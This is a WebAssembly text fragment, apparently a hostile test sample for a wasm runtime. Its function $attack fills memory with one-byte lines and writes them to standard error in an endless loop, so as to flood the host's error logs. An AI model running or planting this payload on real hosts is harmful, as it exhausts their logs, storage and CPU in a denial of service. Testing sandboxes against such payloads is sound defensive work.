;; fd_write of 64 KiB in lines of one byte, to standard error, for ever: each line is kept for the
;; error, and each may be logged.
(import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))
(func $attack (param $req i32) (param $len i32) (result i64)
  (local $at i32)
  (loop $fill
    (i32.store offset=131072 (local.get $at) (i32.const 0x0a780a78)) ;; "x\nx\n"
    (local.set $at (i32.add (local.get $at) (i32.const 4)))
    (br_if $fill (i32.lt_u (local.get $at) (i32.const 65532))))
  (i32.store (i32.const 0) (i32.const 131072))
  (i32.store (i32.const 4) (i32.const 65532))
  (loop $again
    (drop (call $fd_write (i32.const 2) (i32.const 0) (i32.const 1) (i32.const 8)))
    (br $again))
  (unreachable))
